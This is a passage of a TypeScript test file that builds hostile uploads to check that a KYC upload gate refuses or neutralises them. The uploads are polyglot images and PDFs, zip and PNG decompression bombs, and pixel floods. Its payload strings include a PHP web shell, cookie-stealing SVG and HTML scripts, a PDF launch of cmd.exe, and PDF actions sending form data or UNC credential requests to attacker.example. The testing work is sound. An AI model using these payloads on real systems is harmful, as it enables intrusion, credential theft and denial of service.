import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { sanitiseFileName } from '../modules/kyc/service.js';
import {
  deflateZeros,
  encodeAscii85,
  expectTooLarge,
  expectUnsupported,
  handmadePng,
  jpeg,
  objectStream,
  onePagePdf,
  pdfStream,
  png,
  pngChunk,
  withPngChunk,
} from './hostile-files.js';
import { endOfJpeg, endOfPng } from './image-structure.js';
import { PDF_INSPECTION_LIMITS } from './pdf-inspection.js';
import { checkUpload, MAX_IMAGE_PIXELS, MAX_UPLOAD_BYTES, type CheckedUpload } from './uploads.js';

/**
 * Issue 15: a corpus of hostile files, each built here from real bytes, that
 * the upload gate must refuse, or accept only in a form that no longer
 * carries what was smuggled in (a freshly encoded image; the name the KYC
 * service keeps). PDFs are stored byte for byte, so a hostile PDF must be
 * refused.
 */

const FAMILIES = [
  'polyglot',
  'markup renamed',
  'bomb',
  'pixel flood',
  'PDF active content',
  'hostile name',
  'double extension',
  'corrupt',
  'oversize',
  'executable',
  'unsupported image',
] as const;

type Family = (typeof FAMILIES)[number];

type Outcome =
  | { is: 'refused' }
  | { is: 'refused as too large' }
  | { is: 'neutralised'; check: (checked: CheckedUpload, filename: string) => Promise<void> };

type HostileFile = {
  name: string;
  filename: string;
  build: () => Buffer | Promise<Buffer>;
  outcome: Outcome;
  /** Inflated bytes the PDF inspection may spend on this file, when not the real budget. */
  pdfDecodingBudget?: number;
};

type Case = HostileFile & { family: Family };

// ---------------------------------------------------------------------------
// Outcomes

/** What no stored image may contain, whatever the file smuggled. */
const NEVER_STORED = [
  '<script',
  '<html',
  '<svg',
  '<?php',
  'PK\x03\x04',
  '%PDF',
  'JavaScript',
  'cannot be run',
];

/** PNG chunks that carry pixels or say how to show them; text, profiles and private chunks are not among them. */
const PIXEL_CHUNKS = new Set(['IHDR', 'PLTE', 'tRNS', 'IDAT', 'IEND', 'pHYs', 'gAMA', 'cHRM', 'sRGB']);

/** JPEG segments before the scan that carry pixels: JFIF, quantisation and Huffman tables, frame, restart interval. */
const PIXEL_SEGMENTS = new Set([0xe0, 0xdb, 0xc4, 0xc0, 0xc1, 0xc2, 0xdd, 0xda]);

/** Accepted only as one freshly encoded image of this size: no metadata, nothing after it, none of `smuggled`. */
function reencoded(kind: 'png' | 'jpeg', width: number, height: number, smuggled: string[] = []): Outcome {
  return {
    is: 'neutralised',
    check: (checked) => expectCleanImage(checked, { kind, width, height, smuggled }),
  };
}

async function expectCleanImage(
  checked: CheckedUpload,
  image: { kind: 'png' | 'jpeg'; width: number; height: number; smuggled: string[] },
): Promise<void> {
  const { kind, width, height, smuggled } = image;
  expect(checked).toMatchObject({ kind, contentType: `image/${kind}` });
  expect(await sharp(checked.bytes).metadata()).toMatchObject({ format: kind, width, height });
  if (kind === 'png') {
    expect(endOfPng(checked.bytes)).toBe(checked.bytes.length);
    const chunks = pngChunks(checked.bytes);
    expect(chunks.map(({ type }) => type).filter((type) => !PIXEL_CHUNKS.has(type))).toEqual([]);
    // No more pixel data than the header asks for: a viewer of the stored file inflates no bomb.
    const idat = Buffer.concat(chunks.filter(({ type }) => type === 'IDAT').map(({ data }) => data));
    const rawSize = pngRawSize(chunks[0]?.data ?? Buffer.alloc(13));
    expect(zlib.inflateSync(idat, { maxOutputLength: rawSize }).length).toBe(rawSize);
  } else {
    expect(endOfJpeg(checked.bytes)).toBe(checked.bytes.length);
    expect(jpegSegmentsBeforeScan(checked.bytes).filter((marker) => !PIXEL_SEGMENTS.has(marker))).toEqual([]);
  }
  for (const text of [...NEVER_STORED, ...smuggled]) expect(checked.bytes.includes(text), text).toBe(false);
}

/**
 * Accepted as a clean image, and the name the KYC service keeps for it
 * (sanitiseFileName) is `stored`: one plain file name, with no folder and no
 * control, bidirectional or markup character. The file itself is stored
 * under a random key, so the name never becomes a path.
 */
function storedAs(stored: string, smuggled: string[] = []): Outcome {
  return {
    is: 'neutralised',
    check: async (checked, filename) => {
      await expectCleanImage(checked, { kind: 'png', width: 8, height: 8, smuggled });
      const name = sanitiseFileName(filename);
      expect(name).toBe(stored);
      expect(name).not.toMatch(/[/\\<>:"|?*]|\p{Cc}|\p{Cf}/u);
      expect(path.posix.basename(name)).toBe(name);
      expect(path.win32.basename(name)).toBe(name);
      expect(name.startsWith('.')).toBe(false);
      expect(name.length).toBeLessThanOrEqual(100);
    },
  };
}

// ---------------------------------------------------------------------------
// Building blocks

function once<T>(make: () => Promise<T>): () => Promise<T> {
  let made: Promise<T> | undefined;
  return () => (made ??= make());
}

const basePng = once(() => png(8, 8));
const baseJpeg = once(() => jpeg(16, 16));

const HTML =
  '<!DOCTYPE html><html><body><script>fetch("/api/v1/user").then(r=>r.text()).then(alert)</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>';
const PHP = '<?php system($_GET["cmd"]); ?>';
const SCRIPT_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>';

/** Inflated size of every bomb here: 128 MiB of zeros, about 130 KB compressed. */
const BOMB_BYTES = 128 * 1024 * 1024;

/** The zeros compressed once (zlib, streamed) with their CRC-32, for the ZIP and gzip bombs. */
const zeros = once(async () => {
  const compressed = await deflateZeros(BOMB_BYTES);
  const block = Buffer.alloc(1024 * 1024);
  let crc = 0;
  for (let done = 0; done < BOMB_BYTES; done += block.length) crc = zlib.crc32(block, crc);
  // A zlib stream is a two-byte header, the raw deflate data and a four-byte checksum.
  return { zlib: compressed, deflate: compressed.subarray(2, compressed.length - 4), crc };
});

type ZipEntry = { name: string; method: 0 | 8; payload: Buffer; size: number; crc: number };

function storedEntry(name: string, data: Buffer): ZipEntry {
  return { name, method: 0, payload: data, size: data.length, crc: zlib.crc32(data) };
}

function deflatedEntry(name: string, data: Buffer): ZipEntry {
  return { name, method: 8, payload: zlib.deflateRawSync(data), size: data.length, crc: zlib.crc32(data) };
}

async function bombEntry(name: string): Promise<ZipEntry> {
  const { deflate, crc } = await zeros();
  return { name, method: 8, payload: deflate, size: BOMB_BYTES, crc };
}

/**
 * A ZIP archive (local headers, central directory, end record). With
 * `listings` above 1 the directory lists every entry that many times over
 * the same data, as overlapping zip bombs do.
 */
function zipArchive(entries: ZipEntry[], listings = 1): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(entry.method, 8);
    local.writeUInt16LE(0x21, 12); // 1 January 1980
    local.writeUInt32LE(entry.crc, 14);
    local.writeUInt32LE(entry.payload.length, 18);
    local.writeUInt32LE(entry.size, 22);
    local.writeUInt16LE(name.length, 26);
    for (let listing = 0; listing < listings; listing += 1) {
      const listedName = listing === 0 ? name : Buffer.from(`${listing}-${entry.name}`);
      const record = Buffer.alloc(46);
      record.writeUInt32LE(0x02014b50, 0);
      record.writeUInt16LE(20, 4); // made by
      record.writeUInt16LE(20, 6); // needed
      record.writeUInt16LE(entry.method, 10);
      record.writeUInt16LE(0x21, 14);
      record.writeUInt32LE(entry.crc, 16);
      record.writeUInt32LE(entry.payload.length, 20);
      record.writeUInt32LE(entry.size, 24);
      record.writeUInt16LE(listedName.length, 28);
      record.writeUInt32LE(offset, 42);
      directory.push(record, listedName);
    }
    locals.push(local, name, entry.payload);
    offset += local.length + name.length + entry.payload.length;
  }
  const directoryBytes = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length * listings, 8);
  end.writeUInt16LE(entries.length * listings, 10);
  end.writeUInt32LE(directoryBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directoryBytes, end]);
}

/** A ZIP holding an HTML page, compressed so no markup shows in its bytes. */
const htmlZip = () => zipArchive([deflatedEntry('index.html', Buffer.from(HTML))]);

/** A Java archive: a manifest naming the class to run, and the class. */
const jar = () =>
  zipArchive([
    deflatedEntry('META-INF/MANIFEST.MF', Buffer.from('Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n')),
    storedEntry('Evil.class', Buffer.from('cafebabe00000034000a', 'hex')),
  ]);

const bombZip = once(async () => zipArchive([await bombEntry('zeros.bin')]));

async function gzipBomb(): Promise<Buffer> {
  const { deflate, crc } = await zeros();
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc, 0);
  trailer.writeUInt32LE(BOMB_BYTES % 2 ** 32, 4);
  return Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), deflate, trailer]);
}

/** Inserts a segment right after the JPEG's SOI marker. */
function withJpegSegment(image: Buffer, marker: number, data: Buffer | string): Buffer {
  const payload = Buffer.from(data);
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([image.subarray(0, 2), header, payload, image.subarray(2)]);
}

/** The JPEG with its frame header (SOFn) declaring another size. */
function withJpegSize(image: Buffer, width: number, height: number): Buffer {
  const resized = Buffer.from(image);
  for (let offset = 2; offset + 9 <= resized.length; offset += 2 + resized.readUInt16BE(offset + 2)) {
    const marker = resized[offset + 1] ?? 0;
    if (marker >= 0xc0 && marker <= 0xcf && marker !== 0xc4 && marker !== 0xc8 && marker !== 0xcc) {
      resized.writeUInt16BE(height, offset + 5);
      resized.writeUInt16BE(width, offset + 7);
      return resized;
    }
  }
  throw new Error('The JPEG has no frame header');
}

/** A PNG declaring this size, with a few bytes of compressed pixel data: decoding must not even start. */
function floodPng(width: number, height: number): Buffer {
  return handmadePng(width, height, [pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(64)))]);
}

function pngChunks(bytes: Buffer): Array<{ type: string; data: Buffer }> {
  const chunks: Array<{ type: string; data: Buffer }> = [];
  for (let offset = 8; offset + 8 <= bytes.length; offset += 12 + bytes.readUInt32BE(offset)) {
    const type = bytes.toString('latin1', offset + 4, offset + 8);
    chunks.push({ type, data: bytes.subarray(offset + 8, offset + 8 + bytes.readUInt32BE(offset)) });
  }
  return chunks;
}

const CHANNELS_BY_COLOUR_TYPE = new Map([
  [0, 1],
  [2, 3],
  [3, 1],
  [4, 2],
  [6, 4],
]);

/** Bytes of filtered pixel data a non-interlaced PNG with this IHDR holds: a filter byte and the pixels, a row. */
function pngRawSize(header: Buffer): number {
  const [width, height] = [header.readUInt32BE(0), header.readUInt32BE(4)];
  const bitsPerPixel = (header[8] ?? 8) * (CHANNELS_BY_COLOUR_TYPE.get(header[9] ?? 0) ?? 1);
  expect(header[12], 'interlace method').toBe(0);
  return height * (1 + Math.ceil((width * bitsPerPixel) / 8));
}

function jpegSegmentsBeforeScan(bytes: Buffer): number[] {
  const markers: number[] = [];
  for (let offset = 2; offset + 4 <= bytes.length; offset += 2 + bytes.readUInt16BE(offset + 2)) {
    const marker = bytes[offset + 1] ?? 0;
    markers.push(marker);
    if (marker === 0xda) break;
  }
  return markers;
}

/** A 2×2 24-bit Windows bitmap. */
function bmp(): Buffer {
  const pixels = Buffer.alloc(16, 0x80); // two rows of 6 bytes, each padded to 8
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(header.length + pixels.length, 2);
  header.writeUInt32LE(header.length, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(2, 18);
  header.writeInt32LE(2, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

/** A Windows icon whose one image is a PNG. */
async function ico(): Promise<Buffer> {
  const image = await basePng();
  const header = Buffer.alloc(22);
  header.writeUInt16LE(1, 2); // icon
  header.writeUInt16LE(1, 4); // one image
  header.writeUInt8(8, 6);
  header.writeUInt8(8, 7);
  header.writeUInt16LE(1, 10); // planes
  header.writeUInt16LE(32, 12); // bits per pixel
  header.writeUInt32LE(image.length, 14);
  header.writeUInt32LE(header.length, 18);
  return Buffer.concat([header, image]);
}

function sharpImage(format: 'gif' | 'tiff' | 'webp' | 'avif'): Promise<Buffer> {
  return sharp({ create: { width: 8, height: 8, channels: 3, background: '#38a169' } })
    .toFormat(format)
    .toBuffer();
}

/** A 64-bit x86 Linux executable header followed by `exit(0)`. */
function elf(): Buffer {
  const header = Buffer.alloc(64);
  Buffer.from('7f454c46020101', 'hex').copy(header);
  header.writeUInt16LE(2, 16); // executable
  header.writeUInt16LE(0x3e, 18); // x86-64
  header.writeUInt32LE(1, 20);
  return Buffer.concat([header, Buffer.from('31ff b83c000000 0f05'.replaceAll(' ', ''), 'hex')]);
}

/** A Windows executable: MZ header, DOS stub, PE header for x86-64. */
function portableExecutable(): Buffer {
  const file = Buffer.alloc(0x98);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  file.write('PE\0\0', 0x80, 'latin1');
  file.writeUInt16LE(0x8664, 0x84);
  return file;
}

/** The PDF with `payload` after its %%EOF. */
function pdfFollowedBy(payload: Buffer | string): Buffer {
  return Buffer.concat([onePagePdf(), Buffer.from(payload)]);
}

/** A one-page PDF whose catalogue opens on the given action. */
function pdfOpening(action: string): Buffer {
  return onePagePdf(`/OpenAction ${action} `);
}

/** A PDF whose only script is object 6, stored in an object stream encoded by `encode`, under `dictionary`. */
function pdfWithHiddenScript(dictionary: string, encode?: (data: Buffer) => Buffer): Buffer {
  const hidden = objectStream([[6, SCRIPT_ACTION]], encode);
  return onePagePdf('/OpenAction 6 0 R ', [
    pdfStream(`${dictionary} /N 1 /First ${hidden.first}`, hidden.data),
  ]);
}

function padTo(size: number, file: Buffer): Buffer {
  return Buffer.concat([file, Buffer.alloc(size - file.length, 0x20)]);
}

/** Spending the real 1 GiB PDF inspection budget takes seconds; the same check refuses past a smaller one. */
const TEST_PDF_BUDGET = 16 * 1024 * 1024;

async function withPdfDecodingBudget(budget: number | undefined, run: () => Promise<void>): Promise<void> {
  if (budget === undefined) return run();
  const real = PDF_INSPECTION_LIMITS.decodedBytes;
  PDF_INSPECTION_LIMITS.decodedBytes = budget;
  try {
    await run();
  } finally {
    PDF_INSPECTION_LIMITS.decodedBytes = real;
  }
}

// ---------------------------------------------------------------------------
// The corpus

function refuse(name: string, filename: string, build: HostileFile['build']): HostileFile {
  return { name, filename, build, outcome: { is: 'refused' } };
}

function refuseAsTooLarge(name: string, filename: string, build: HostileFile['build']): HostileFile {
  return { name, filename, build, outcome: { is: 'refused as too large' } };
}

function accept(name: string, filename: string, build: HostileFile['build'], outcome: Outcome): HostileFile {
  return { name, filename, build, outcome };
}

const polyglots: HostileFile[] = [
  refuse('a PNG with a ZIP archive after IEND', 'photo.png', async () =>
    Buffer.concat([await basePng(), htmlZip()]),
  ),
  refuse('a PNG with an HTML page after IEND', 'photo.png', async () =>
    Buffer.concat([await basePng(), Buffer.from(HTML)]),
  ),
  refuse('a PNG with a PDF after IEND', 'photo.png', async () =>
    Buffer.concat([await basePng(), onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION])]),
  ),
  refuse('a PNG with an HTML page in a tEXt chunk', 'photo.png', async () =>
    withPngChunk(await basePng(), pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`))),
  ),
  refuse('a PNG with an SVG in an uncompressed iTXt chunk', 'photo.png', async () =>
    withPngChunk(await basePng(), pngChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SVG}`))),
  ),
  accept(
    'a PNG with an HTML page compressed in a zTXt chunk, out of sight of the markup check',
    'photo.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), zlib.deflateSync(HTML)])),
      ),
    reencoded('png', 8, 8, ['zTXt', 'Comment']),
  ),
  accept(
    'a PNG with a ZIP archive in a private chunk before IEND',
    'photo.png',
    async () => withPngChunk(await basePng(), pngChunk('ziPp', htmlZip())),
    reencoded('png', 8, 8, ['ziPp', 'index.html']),
  ),
  accept(
    'a PNG with a Windows executable in a private chunk',
    'photo.png',
    async () => withPngChunk(await basePng(), pngChunk('exEc', portableExecutable())),
    reencoded('png', 8, 8, ['exEc', 'PE\0\0']),
  ),
  accept(
    'a PNG with PHP code in a tEXt chunk',
    'photo.png',
    async () => withPngChunk(await basePng(), pngChunk('tEXt', Buffer.from(`Comment\0${PHP}`))),
    reencoded('png', 8, 8, ['system(', 'tEXt']),
  ),
  refuse('a JPEG with an HTML page after EOI', 'photo.jpg', async () =>
    Buffer.concat([await baseJpeg(), Buffer.from(HTML)]),
  ),
  refuse('a JPEG with a ZIP archive after EOI', 'photo.jpg', async () =>
    Buffer.concat([await baseJpeg(), htmlZip()]),
  ),
  refuse('a JPEG with an HTML page in a comment segment', 'photo.jpg', async () =>
    withJpegSegment(await baseJpeg(), 0xfe, HTML),
  ),
  refuse('a JPEG with an SVG in its XMP segment', 'photo.jpg', async () =>
    withJpegSegment(await baseJpeg(), 0xe1, `http://ns.adobe.com/xap/1.0/\0${SVG}`),
  ),
  accept(
    'a JPEG with a ZIP archive in an APP15 segment',
    'photo.jpg',
    async () => withJpegSegment(await baseJpeg(), 0xef, htmlZip()),
    reencoded('jpeg', 16, 16, ['index.html']),
  ),
  accept(
    'a JPEG with a PDF that runs a script in its comment segment (JPEG/PDF polyglot)',
    'photo.jpg',
    async () => withJpegSegment(await baseJpeg(), 0xfe, onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION])),
    reencoded('jpeg', 16, 16, ['OpenAction', '%%EOF']),
  ),
  refuse('the JPEG/PDF polyglot named .pdf', 'statement.pdf', async () =>
    withJpegSegment(await baseJpeg(), 0xfe, onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION])),
  ),
  accept(
    'a JPEG followed by a second JPEG with PHP code in its comment segment',
    'photo.jpg',
    async () => Buffer.concat([await baseJpeg(), withJpegSegment(await jpeg(4, 4), 0xfe, PHP)]),
    reencoded('jpeg', 16, 16, ['system(']),
  ),
  refuse('a GIF with a Java archive appended (GIFAR), named .png', 'avatar.png', async () =>
    Buffer.concat([await sharpImage('gif'), jar()]),
  ),
  refuse('a GIF with a Java archive appended (GIFAR), named .jpg', 'avatar.jpg', async () =>
    Buffer.concat([await sharpImage('gif'), jar()]),
  ),
  refuse('a Java archive named .jpg', 'avatar.jpg', jar),
  refuse('a PDF with an HTML page in a string', 'statement.pdf', () => onePagePdf('', [`(${HTML})`])),
  refuse('a PDF with an HTML page after %%EOF', 'statement.pdf', () => pdfFollowedBy(HTML)),
  refuse('a PDF with a ZIP archive after %%EOF (PDF/ZIP polyglot)', 'statement.pdf', () =>
    pdfFollowedBy(htmlZip()),
  ),
  refuse('a PDF with a Windows executable after %%EOF', 'statement.pdf', () =>
    pdfFollowedBy(portableExecutable()),
  ),
  refuse('a PDF with a ZIP archive in a stream near its end, readable as a ZIP', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('', htmlZip())]),
  ),
  refuse('an HTML page with a PDF after it, named .pdf', 'statement.pdf', () =>
    Buffer.concat([Buffer.from(HTML), onePagePdf()]),
  ),
];

const markupRenamed: HostileFile[] = [
  refuse('an SVG with a script, named .png', 'passport.png', () => Buffer.from(SVG)),
  refuse('an SVG with a script, named .jpg', 'passport.jpg', () => Buffer.from(SVG)),
  refuse('an SVG with a script, named .pdf', 'passport.pdf', () => Buffer.from(SVG)),
  refuse('an SVG with an XML prolog, named .png', 'passport.png', () =>
    Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${SVG}`),
  ),
  refuse('a gzipped SVG (svgz), named .png', 'passport.png', () => zlib.gzipSync(SVG)),
  refuse('an HTML page, named .png', 'passport.png', () => Buffer.from(HTML)),
  refuse('an HTML page, named .jpg', 'passport.jpg', () => Buffer.from(HTML)),
  refuse('an HTML page, named .jpeg', 'passport.jpeg', () => Buffer.from(HTML)),
  refuse('an HTML page, named .pdf', 'passport.pdf', () => Buffer.from(HTML)),
  refuse('an HTML page with a UTF-8 byte order mark, named .png', 'passport.png', () =>
    Buffer.concat([Buffer.from('efbbbf', 'hex'), Buffer.from(HTML)]),
  ),
  refuse('an HTML page in UTF-16, where the markup check sees no markers, named .png', 'passport.png', () =>
    Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(HTML, 'utf16le')]),
  ),
  refuse('an XHTML page, named .jpg', 'passport.jpg', () =>
    Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${HTML}</html>`),
  ),
  refuse('an HTML fragment using only tags the markup check does not list, named .png', 'passport.png', () =>
    Buffer.from('<img src=x onerror="alert(document.domain)"><a href="data:text/html,x">x</a>'),
  ),
  refuse('a JavaScript file, named .jpg', 'passport.jpg', () =>
    Buffer.from('fetch("/api/v1/user").then((r) => r.text()).then(alert);\n'),
  ),
  refuse('an XML file with an XSLT stylesheet, named .pdf', 'passport.pdf', () =>
    Buffer.from('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><doc/>'),
  ),
  refuse('an HTML page behind a PNG signature', 'passport.png', () =>
    Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(HTML)]),
  ),
  refuse('an HTML page between a %PDF- header and %%EOF', 'passport.pdf', () =>
    Buffer.from(`%PDF-1.7\n${HTML}\n%%EOF\n`),
  ),
];

const bombs: HostileFile[] = [
  refuse('a PNG of 10001 × 10001 zero pixels in 130 KB of IDAT (100 million pixels)', 'bomb.png', async () =>
    handmadePng(10_001, 10_001, [pngChunk('IDAT', (await zeros()).zlib)]),
  ),
  accept(
    'an 8 × 8 PNG whose IDAT inflates to 128 MiB',
    'bomb.png',
    async () => handmadePng(8, 8, [pngChunk('IDAT', (await zeros()).zlib)]),
    reencoded('png', 8, 8),
  ),
  accept(
    'a PNG with a zTXt chunk that inflates to 128 MiB',
    'bomb.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), (await zeros()).zlib])),
      ),
    reencoded('png', 8, 8, ['zTXt']),
  ),
  accept(
    'a PNG with a compressed iTXt chunk that inflates to 128 MiB',
    'bomb.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0\0\0'), (await zeros()).zlib])),
      ),
    reencoded('png', 8, 8, ['iTXt']),
  ),
  accept(
    'a PNG with an ICC profile (iCCP) that inflates to 128 MiB',
    'bomb.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('iCCP', Buffer.concat([Buffer.from('bomb\0\0'), (await zeros()).zlib])),
      ),
    reencoded('png', 8, 8, ['iCCP']),
  ),
  refuse('a ZIP bomb (128 MiB in one entry), named .png', 'bomb.png', bombZip),
  refuse('a ZIP bomb, named .jpg', 'bomb.jpg', bombZip),
  refuse('a ZIP bomb, named .pdf', 'bomb.pdf', bombZip),
  refuse('an overlapping ZIP bomb (64 listings of one 128 MiB entry), named .pdf', 'bomb.pdf', async () =>
    zipArchive([await bombEntry('zeros.bin')], 64),
  ),
  refuse('a nested ZIP bomb (16 ZIP bombs in a ZIP), named .png', 'bomb.png', async () => {
    const inner = await bombZip();
    return zipArchive(Array.from({ length: 16 }, (_, index) => deflatedEntry(`${index}.zip`, inner)));
  }),
  refuse('a gzip bomb, named .pdf', 'bomb.pdf', gzipBomb),
  {
    ...refuse('a PDF with a stream that inflates to 128 MiB', 'bomb.pdf', async () =>
      onePagePdf('', [pdfStream('/Filter /FlateDecode', (await zeros()).zlib)]),
    ),
    pdfDecodingBudget: TEST_PDF_BUDGET,
  },
  {
    ...refuse('a PDF with a doubly compressed stream that inflates to 128 MiB', 'bomb.pdf', async () =>
      onePagePdf('', [
        pdfStream('/Filter [/FlateDecode /FlateDecode]', zlib.deflateSync((await zeros()).zlib)),
      ]),
    ),
    pdfDecodingBudget: TEST_PDF_BUDGET,
  },
];

const pixelFloods: HostileFile[] = [
  refuse('a PNG declaring 2147483647 × 2147483647 pixels', 'flood.png', () =>
    floodPng(2 ** 31 - 1, 2 ** 31 - 1),
  ),
  refuse('a PNG declaring 65535 × 65535 pixels', 'flood.png', () => floodPng(65_535, 65_535)),
  refuse('a PNG one pixel wide and MAX_IMAGE_PIXELS + 1 high', 'flood.png', () =>
    floodPng(1, MAX_IMAGE_PIXELS + 1),
  ),
  refuse('a PNG MAX_IMAGE_PIXELS + 1 wide and one pixel high', 'flood.png', () =>
    floodPng(MAX_IMAGE_PIXELS + 1, 1),
  ),
  refuse('a PNG declaring 20000 × 5001 pixels, just over the limit', 'flood.png', () =>
    floodPng(20_000, 5_001),
  ),
  refuse('a PNG declaring a width of 0', 'flood.png', () => floodPng(0, 8)),
  refuse('a JPEG whose frame header declares 65535 × 65535 pixels', 'flood.jpg', async () =>
    withJpegSize(await baseJpeg(), 65_535, 65_535),
  ),
  refuse(
    'a JPEG whose frame header declares 65535 × 1526 pixels, just over the limit',
    'flood.jpg',
    async () => withJpegSize(await baseJpeg(), 65_535, 1_526),
  ),
  refuse('a progressive JPEG declaring 65535 × 65535 pixels', 'flood.jpg', async () =>
    withJpegSize(
      await sharp(await baseJpeg())
        .jpeg({ progressive: true })
        .toBuffer(),
      65_535,
      65_535,
    ),
  ),
  refuse('a JPEG whose frame header declares a height of 0', 'flood.jpg', async () =>
    withJpegSize(await baseJpeg(), 16, 0),
  ),
];

const pdfActiveContent: HostileFile[] = [
  refuse('a script action run on opening', 'statement.pdf', () =>
    onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION]),
  ),
  refuse('a script written as a hex string', 'statement.pdf', () =>
    pdfOpening(`<< /S /JavaScript /JS <${Buffer.from('app.alert(1)').toString('hex')}> >>`),
  ),
  refuse('a script with no whitespace between the names', 'statement.pdf', () =>
    pdfOpening('<</S/JavaScript/JS(app.alert(1))>>'),
  ),
  refuse('a page-open action (/AA) naming only /JS', 'statement.pdf', () =>
    onePagePdf('/AA << /O << /JS (app.alert(1)) >> >> '),
  ),
  refuse('a script run when the document closes (/AA /WC)', 'statement.pdf', () =>
    onePagePdf('/AA << /WC 5 0 R >> ', [SCRIPT_ACTION]),
  ),
  refuse('a document-level script in the /Names tree', 'statement.pdf', () =>
    onePagePdf('/Names << /JavaScript << /Names [(init) 5 0 R] >> >> ', [SCRIPT_ACTION]),
  ),
  refuse('a link annotation whose action is a script', 'statement.pdf', () =>
    onePagePdf('', [`<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${SCRIPT_ACTION} >>`]),
  ),
  refuse('a form field with a keystroke script', 'statement.pdf', () =>
    onePagePdf('/AcroForm << /Fields [5 0 R] >> ', ['<< /FT /Tx /T (name) /AA << /K << /JS (x) >> >> >>']),
  ),
  refuse('a launch action running cmd.exe', 'statement.pdf', () =>
    pdfOpening('<< /S /Launch /F (cmd.exe) >>'),
  ),
  refuse('a launch action with Windows parameters', 'statement.pdf', () =>
    pdfOpening('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>'),
  ),
  refuse('an embedded file in the /EmbeddedFiles tree', 'statement.pdf', () =>
    onePagePdf('/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >> ', [
      '<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>',
    ]),
  ),
  refuse('a file attachment annotation with an embedded file stream', 'statement.pdf', () =>
    onePagePdf('', [
      '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /F (a.exe) /EF << /F 6 0 R >> >> >>',
      pdfStream('/Type /EmbeddedFile', portableExecutable().subarray(0, 64)),
    ]),
  ),
  refuse('a URI action opening a javascript: link', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (javascript:app.alert(1)) >>'),
  ),
  refuse('a URI action opening a JAVASCRIPT: link in capitals', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (JAVASCRIPT:app.alert(1)) >>'),
  ),
  refuse('a URI action whose javascript: link is a hex string', 'statement.pdf', () =>
    pdfOpening(`<< /S /URI /URI <${Buffer.from('javascript:app.alert(1)').toString('hex')}> >>`),
  ),
  refuse('a URI action whose javascript: link is written with octal escapes', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (\\152\\141vascript:app.alert\\0501\\051) >>'),
  ),
  refuse('a URI action opening a file: link to a remote share', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (file://attacker.example/share/statement.pdf) >>'),
  ),
  refuse('a URI action opening a UNC path (leaks network credentials)', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\a.pdf) >>'),
  ),
  refuse('a URI action opening an smb: link', 'statement.pdf', () =>
    onePagePdf('/AA << /O << /S /URI /URI (smb://attacker.example/share) >> >> '),
  ),
  refuse('a URI action whose link is another object, out of sight', 'statement.pdf', () =>
    onePagePdf('/OpenAction << /S /URI /URI 5 0 R >> ', ['(file://attacker.example/share)']),
  ),
  refuse('a form that submits itself', 'statement.pdf', () =>
    pdfOpening('<< /S /SubmitForm /F (https://attacker.example/collect) >>'),
  ),
  refuse('a data import', 'statement.pdf', () => pdfOpening('<< /S /ImportData /F (data.fdf) >>')),
  refuse('a remote document link (/GoToR) to a UNC path', 'statement.pdf', () =>
    pdfOpening('<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
  ),
  refuse('an embedded document link (/GoToE)', 'statement.pdf', () =>
    pdfOpening('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
  ),
  refuse('a rich media annotation', 'statement.pdf', () =>
